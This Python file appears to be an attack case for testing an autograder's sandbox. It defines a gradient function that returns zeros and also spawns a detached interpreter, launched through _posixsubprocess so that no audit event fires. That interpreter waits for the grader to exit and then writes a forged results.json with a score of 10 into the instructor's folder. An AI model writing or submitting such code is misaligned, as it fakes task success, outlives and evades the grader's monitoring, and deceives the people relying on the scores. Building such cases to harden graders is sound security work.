"""Harm: a process that outlives the grader and rewrites the results once it has exited: a
fresh interpreter (started through _posixsubprocess, no audit event) waits for the grader to
end, then writes results.json into the victim folder."""
import os

import numpy as np

from _spawn import python

from _victim import VICTIM   # the folder the instructor keeps (its path, known to the attacker)
CODE = f"""
import os, time
grader = int(os.environ.get("GRADER", "0")) or os.getppid()
for _ in range(600):
    time.sleep(0.1)
    try:
        os.kill(grader, 0)
    except OSError:
        break
os.makedirs({VICTIM!r}, exist_ok=True)
with open(os.path.join({VICTIM!r}, "results.json"), "w") as f:
    f.write('{{"score": 10}}')
"""


def grad_W_C(params, P, z):
    os.environ["GRADER"] = str(os.getppid())
    python(CODE)
    return np.zeros_like(params.W_C)
